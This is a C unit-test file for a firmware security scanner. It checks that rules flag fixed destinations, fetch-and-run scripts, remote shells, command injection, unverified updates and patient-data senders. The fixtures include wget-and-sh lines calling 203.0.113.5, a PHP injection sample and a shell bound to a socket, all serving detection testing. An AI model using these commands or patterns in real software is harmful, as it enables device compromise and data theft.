/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Deeds in the forms that other people give them: libraries of clients, children, shells on a socket, scripts that are
 * written and run, scripts in other languages. */
#include "fake_image.h"

#include <time.h>

static int severity_of(struct fake *k, const char *rule)
{
	fake_run(k);
	return fake_severity(fake_found(k, rule));
}

static void scripts_in_other_languages_give_what_they_do_and_no_more(void **state)
{
	(void)state;
	static const struct {
		const char *path, *text, *rule;
		int severity;                    /* -1: nothing */
	} cases[] = {
		{ "a.lua", "local h, p = \"203.0.113.5\", 515\nlocal c = socket.tcp()\nc:connect(h, p)\n", "fw.fixed-destination",
		  SEV_MEDIUM },
		{ "a.lua", "local h = uci:get(\"a\")\nlocal c = socket.tcp() -- 203.0.113.5\nc:connect(h, 515)\n", "", -1 },
		{ "a.lua", "os.execute(string.format(\"mount -t nfs %s:/pm /mnt\", \"203.0.113.5\"))\n", "fw.remote-mount",
		  SEV_HIGH },
		{ "a.lua", "--[[ os.execute ]] print(\"mount -t nfs 203.0.113.5:/pm /mnt\")\n", "", -1 },
		{ "a.py", "S = ('203.0.113.%d' % 5, 515)\ns.connect(S)\n", "fw.fixed-destination", SEV_MEDIUM },
		{ "a.py", "S = (conf['host'], 515)\ns.connect(S)\nx = '203.0.113.5'\n", "", -1 },
		{ "a.py", "h = '203.0.113.5'\nsubprocess.run(f'wget -O /tmp/x http://{h}/x; sh /tmp/x', shell=True)\n",
		  "fw.script-fetch", SEV_HIGH },
		{ "a.py", "subprocess.run(['ping', os.environ['QUERY_STRING']])\n", "", -1 },
		{ "a.php", "<?php $h = $_GET['h']; system(\"ping $h\"); ?>", "fw.command-injection", SEV_HIGH },
		{ "a.php", "<?php $h = escapeshellarg($_GET['h']); system(\"ping $h\"); ?>", "", -1 },
		{ "a.php", "<?php $f = fsockopen('udp://203.0.113.5', 515); ?>", "fw.fixed-destination", SEV_MEDIUM },
		{ "a.pl", "my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.5', PeerPort => 515);\n", "fw.fixed-destination",
		  SEV_MEDIUM },
		{ "a.pl", "my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 515);\n", "", -1 },
		{ "a.awk", "BEGIN { s = \"/inet/tcp/0/203.0.113.5/515\"; s |& getline l }\n", "fw.fixed-destination", SEV_MEDIUM },
		{ "a.awk", "BEGIN { s = \"/inet/tcp/0/203.0.113.5/515\"; print s }\n", "", -1 },
		{ "a.txt", "os.execute(\"mount -t nfs 203.0.113.5:/pm /mnt\")\n", "", -1 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, cases[i].path, SCENE_OTHER, cases[i].text);
		fake_run(&k);
		const struct finding *f = *cases[i].rule ? fake_found(&k, cases[i].rule) : k.nfound ? k.found[0] : NULL;
		int got = fake_severity(f);
		if (got != cases[i].severity)
			fail_msg("script %zu: severity %d, expected %d:\n%s", i, got, cases[i].severity, cases[i].text);
		fake_end(&k);
	}
}

/* Each assignment's value holds all that follow, and each bracket all within. */
static void what_swells_a_script_is_given_up(void **state)
{
	static const char *const ends[] = { "$a=", "urlopen(", "sprintf(", "\\\"" };
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(ends); i++) {
		struct fake k;
		struct buf text = { 0 };
		buf_text(&text, "<?php\n");
		for (int v = 0; v < 500; v++)
			buf_printf(&text, "$v%d='x';\n", v);
		buf_text(&text, "system('wget http://203.0.113.5/p -O /tmp/p; sh /tmp/p');\n");
		while (text.n < 200000)
			buf_text(&text, ends[i]);
		buf_u8(&text, 0);
		fake_begin(&k);
		(void)fake_file(&k, "a.php", SCENE_OTHER, (const char *)text.p);
		clock_t begun = clock();
		int severity = severity_of(&k, "fw.script-fetch");
		assert_true(clock() - begun < 5 * CLOCKS_PER_SEC);
		assert_true(severity >= SEV_MEDIUM);     /* what stood before it is told */
		fake_end(&k);
		buf_done(&text);
	}
}

/* Each text is bounded; of many that are made to be work the last are left, and counted. */
static void the_texts_of_an_image_share_one_budget(void **state)
{
	(void)state;
	struct buf text = { 0 };
	struct fake k;
	uint32_t unread = 0;
	char names[6][16];
	buf_text(&text, "a=12345678\n");
	for (int i = 0; i < 9; i++)
		buf_text(&text, "a=$a$a\n");
	for (int i = 0; i < 16000; i++)
		buf_text(&text, "echo $a\n");
	buf_u8(&text, 0);
	fake_begin(&k);
	k.scene.unread = &unread;
	(void)fake_file(&k, "first.sh", SCENE_SCRIPT, "wget http://203.0.113.5/p -O /tmp/p; sh /tmp/p\n");
	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		snprintf(names[i], sizeof(names[i]), "a%zu.sh", i);
		(void)fake_file(&k, names[i], SCENE_SCRIPT, (const char *)text.p);
	}
	clock_t begun = clock();
	assert_true(severity_of(&k, "fw.script-fetch") >= SEV_MEDIUM);
	assert_true(clock() - begun < 20 * CLOCKS_PER_SEC);
	assert_in_range(unread, 1, ARRAY_LEN(names) - 1);
	fake_end(&k);
	buf_done(&text);
}

static void rules_of_udev_and_mdev_run_commands(void **state)
{
	(void)state;
	static const struct {
		const char *path, *text;
		int severity;
	} cases[] = {
		{ "etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'wget -O- http://203.0.113.5/p | sh'\"\n",
		  SEV_HIGH },
		{ "etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", NAME=\"wget -O- http://203.0.113.5/p | sh\"\n", -1 },
		{ "etc/mdev.conf", "sda1 root:disk 660 @wget -O- http://203.0.113.5/p | sh\n", SEV_HIGH },
		{ "etc/mdev.conf", "# sda1 root:disk 660 @wget -O- http://203.0.113.5/p | sh\n", -1 },
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, cases[i].path, SCENE_HOTPLUG, cases[i].text);
		assert_int_equal(severity_of(&k, "fw.script-fetch"), cases[i].severity);
		fake_end(&k);
	}
}

static void clients_of_libraries_have_destinations_and_passwords(void **state)
{
	(void)state;
	for (int given = 0; given < 2; given++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_NETWORK, "mosquitto_username_pw_set", given ? "user=\"{config:u}" : "user=\"device",
			  given ? "password=\"{config:p}" : "password=\"hunter22", NULL);
		fake_call(&k, CALL_NETWORK, "mosquitto_connect", given ? "host=\"{config:h}" : "host=\"203.0.113.5", "port=#1883",
			  NULL);
		assert_int_equal(severity_of(&k, "fw.fixed-destination"), given ? -1 : (int)SEV_MEDIUM);
		assert_int_equal(severity_of(&k, "fw.fixed-credential"), given ? -1 : (int)SEV_MEDIUM);
		fake_end(&k);
	}
}

static void what_libcurl_writes_into_a_file_came_from_its_address(void **state)
{
	(void)state;
	for (int order = 0; order < 3; order++) {                /* 2: it is looked at in between */
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/update");
		if (order == 1)
			fake_call(&k, CALL_NETWORK, "curl_easy_setopt", "option=#10001", "value=\"file /tmp/fw", NULL);
		fake_call(&k, CALL_NETWORK, "curl_easy_setopt", "option=#10002", "value=\"http://203.0.113.5:8000/fw", NULL);
		if (order != 1)
			fake_call(&k, CALL_NETWORK, "curl_easy_setopt", "option=#10001", "value=\"file /tmp/fw", NULL);
		if (order == 2)
			fake_call(&k, CALL_CHECK, "EVP_DigestVerify", NULL);
		fake_call(&k, CALL_RUN, "system", "command=\"/tmp/fw --install", NULL);
		assert_int_equal(severity_of(&k, "fw.unverified-update"), order == 2 ? -1 : (int)SEV_HIGH);
		fake_end(&k);
	}
}

static void what_a_program_fetches_by_itself_is_an_update_when_it_is_run(void **state)
{
	(void)state;
	static const struct {
		const char *source;
		bool fires;
	} cases[] = { { "data=\"{socket:inet stream}", true },
		      { "data=\"{socket:accepted}", false },
		      { "data=\"{file:/dev/sda}", false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/update");
		fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/8081", NULL);
		fake_call(&k, CALL_WRITE, "write", "to=\"file /tmp/app", cases[i].source, NULL);
		fake_call(&k, CALL_RUN, "execl", "path=\"/tmp/app", "argv=[app", NULL);
		assert_int_equal(severity_of(&k, "fw.unverified-update") >= 0, cases[i].fires);
		fake_end(&k);
	}
}

static void what_a_child_runs_was_run_when_its_parent_goes_on(void **state)
{
	(void)state;
	for (int forked = 0; forked < 2; forked++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/update");
		fake_call(&k, CALL_PROCESS, "fork", NULL);
		uint64_t at = k.order;
		fake_call(&k, CALL_RUN, "execvp", "path=\"wget", "argv=[wget|-O|/tmp/a|http://203.0.113.5/a", NULL);
		fake_path(&k, 2, 1, at);
		record_str(k.paths[0][1], FWP_CONDITION, forked ? "90f0: goes to 90f4, after fork() = 0" : "90f0: goes to 90f4");
		fake_call(&k, CALL_RUN, "system", "command=\"sh /tmp/a", NULL);
		assert_int_equal(severity_of(&k, "fw.unverified-update") >= 0, forked);
		fake_end(&k);
	}
}

static void a_port_that_is_given_has_no_number(void **state)
{
	(void)state;
	for (int given = 0; given < 2; given++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		struct record *c = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/23042", NULL);
		if (given)
			record_str(c->v[FWC_ARGS].records.v[1], ARG_SOURCE, "getenv:PORT");
		assert_int_equal(severity_of(&k, "fw.fixed-destination"), SEV_MEDIUM);
		const struct finding *f = fake_found(&k, "fw.fixed-destination");
		assert_true(f && record_has(f->observed, OBS_PORT) == !given);
		assert_true(f && (strstr(f->title, "23042") != NULL) == !given);
		fake_end(&k);
	}
}

static void a_script_that_is_written_and_run_is_read(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/update");
	fake_call(&k, CALL_RUN, "system", "command=\"/tmp/up.sh", "script=\"#!/bin/sh\nmount -t nfs 203.0.113.5:/pm /mnt\n",
		  NULL);
	assert_int_equal(severity_of(&k, "fw.remote-mount"), SEV_HIGH);
	fake_end(&k);
}

static void a_shell_on_a_socket_is_offered_to_the_network(void **state)
{
	(void)state;
	static const struct {
		const char *from, *program;
		bool login, fires;
	} cases[] = { { "from=\"socket accepted", "path=\"/bin/sh", false, true },
		      { "from=\"socket accepted", "path=\"/bin/sh", true, false },
		      { "from=\"socket accepted", "path=\"/usr/bin/status", false, false },
		      { "from=\"file /dev/ttyS0", "path=\"/bin/sh", false, false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/4000", NULL);
		if (cases[i].login)
			fake_call(&k, CALL_LOGIN, "crypt", "key=\"{socket:accepted}", "salt=\"{file:/etc/shadow}", NULL);
		fake_call(&k, CALL_PROCESS, "dup2", cases[i].from, "to=#0", NULL);
		fake_call(&k, CALL_RUN, "execl", cases[i].program, "argv=[sh|-i", NULL);
		assert_int_equal(severity_of(&k, "fw.remote-shell"), cases[i].fires ? (int)SEV_CRITICAL : -1);
		fake_end(&k);
	}
}

/* The path assumes that the program is in another state; one that logs people in keeps there that somebody has. */
static void a_state_that_is_assumed_is_low_where_people_log_in(void **state)
{
	(void)state;
	for (int logs_in = 0; logs_in < 2; logs_in++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/4000", NULL);
		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
		fake_path(&k, 2, 1, k.order);
		record_str(k.paths[0][1], FWP_CONDITION, "90f0: goes to 90f4");
		fake_call(&k, CALL_CONFIG, "nvram_set", "name=\"lan_ip", "value=\"{recv}", NULL);
		fake_path(&k, 3, 1, k.order);
		if (logs_in)
			fake_call(&k, CALL_LOGIN, "crypt", "key=\"{recv}", "salt=\"{config:password}", NULL);
		assert_int_equal(severity_of(&k, "fw.hidden-listener"), logs_in ? (int)SEV_LOW : (int)SEV_HIGH);
		fake_end(&k);
	}
}

static void a_parameter_is_no_magic_word_and_its_name_no_check(void **state)
{
	(void)state;
	for (int checked = 0; checked < 2; checked++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "www/cgi-bin/ping");
		fake_call(&k, CALL_COMPARE, "strstr", "a=\"{getenv:QUERY_STRING}", "b=\"host=", NULL);
		if (checked)
			fake_call(&k, CALL_COMPARE, "characters", "outside=\"{getenv:QUERY_STRING}", NULL);
		fake_call(&k, CALL_RUN, "system", "command=\"ping {getenv:QUERY_STRING}", NULL);
		assert_int_equal(severity_of(&k, "fw.command-injection"), checked ? -1 : (int)SEV_HIGH);
		assert_int_equal(severity_of(&k, "fw.magic-value"), -1);
		fake_end(&k);
	}
}

static void a_file_named_network_is_no_network(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/net");
	fake_call(&k, CALL_RUN, "system", "command=\"ip link set {file:/etc/network/ifaces} up", NULL);
	assert_int_equal(severity_of(&k, "fw.command-injection"), -1);
	fake_end(&k);
}

static void words_of_a_later_message_are_no_password(void **state)
{
	(void)state;
	for (int again = 0; again < 2; again++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_LOGIN, "crypt", "key=\"{recv}", "salt=\"{config:password}", NULL);
		if (again)
			fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
		fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"version", NULL);
		assert_int_equal(severity_of(&k, "fw.fixed-credential"), again ? -1 : (int)SEV_HIGH);
		fake_end(&k);
	}
}

static void keys_of_patients_in_a_message_of_numbers(void **state)
{
	(void)state;
	for (int named = 0; named < 2; named++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		static const char *const keys[] = { "b=\"PatientID", "b=\"PatientName", "b=\"BirthDate" };
		static const char *const others[] = { "b=\"Volume", "b=\"Language", "b=\"Contrast" };
		for (size_t i = 0; i < ARRAY_LEN(keys); i++)
			fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{file:/opt/patient.ini}", named ? keys[i] : others[i], NULL);
		fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/515", NULL);
		fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"\xfa\xd1", NULL);
		assert_int_equal(severity_of(&k, "fw.patient-data-sender"), named ? (int)SEV_MEDIUM : -1);
		fake_end(&k);
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(scripts_in_other_languages_give_what_they_do_and_no_more),
		cmocka_unit_test(what_swells_a_script_is_given_up),
		cmocka_unit_test(the_texts_of_an_image_share_one_budget),
		cmocka_unit_test(rules_of_udev_and_mdev_run_commands),
		cmocka_unit_test(clients_of_libraries_have_destinations_and_passwords),
		cmocka_unit_test(what_libcurl_writes_into_a_file_came_from_its_address),
		cmocka_unit_test(what_a_program_fetches_by_itself_is_an_update_when_it_is_run),
		cmocka_unit_test(what_a_child_runs_was_run_when_its_parent_goes_on),
		cmocka_unit_test(a_port_that_is_given_has_no_number),
		cmocka_unit_test(a_script_that_is_written_and_run_is_read),
		cmocka_unit_test(a_shell_on_a_socket_is_offered_to_the_network),
		cmocka_unit_test(a_state_that_is_assumed_is_low_where_people_log_in),
		cmocka_unit_test(a_parameter_is_no_magic_word_and_its_name_no_check),
		cmocka_unit_test(a_file_named_network_is_no_network),
		cmocka_unit_test(words_of_a_later_message_are_no_password),
		cmocka_unit_test(keys_of_patients_in_a_message_of_numbers),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
